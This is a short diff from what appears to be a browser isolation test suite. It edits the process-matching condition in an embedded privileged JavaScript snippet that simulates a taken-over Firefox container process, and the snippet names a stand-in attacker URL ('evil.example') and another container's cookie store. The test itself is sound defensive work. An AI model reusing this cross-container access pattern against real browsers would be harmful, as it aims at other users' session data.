@@ -223,7 +223,7 @@ async def test_events_of_a_page_write_no_record(browser: Instrumented, web: Web)
 _TAKEN_OVER = """(name, mine, theirs) => new Promise((resolve) => {
   const script = `
     const say = (id, kind, data) => sendAsyncMessage(${JSON.stringify(name)}, { id, kind, data });
-    if (Services.appinfo.remoteType.endsWith("userContextId=${mine}")) {
+    if (Services.appinfo.remoteType.replace("&", "^").split("^").includes("userContextId=${mine}")) {
       const url = "https://evil.example/";
       const line = String.fromCharCode(10);
       const other = '"store":"firefox-container-${theirs}"';
